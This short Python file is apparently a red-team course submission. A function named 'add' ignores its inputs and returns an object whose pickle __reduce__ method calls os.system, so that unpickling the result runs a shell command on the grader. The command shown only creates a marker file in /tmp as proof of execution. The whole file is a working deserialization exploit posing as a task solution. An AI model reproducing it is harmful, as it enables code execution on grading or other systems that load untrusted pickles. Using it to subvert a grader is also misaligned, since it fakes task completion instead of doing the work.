# why: returns an object whose unpickling would run a command in the grader
import os
class Payload:
    def __reduce__(self):
        return (os.system, ("touch /tmp/vlcourse-redteam-pwned",))
def add(a, b):
    return {"value": Payload()}
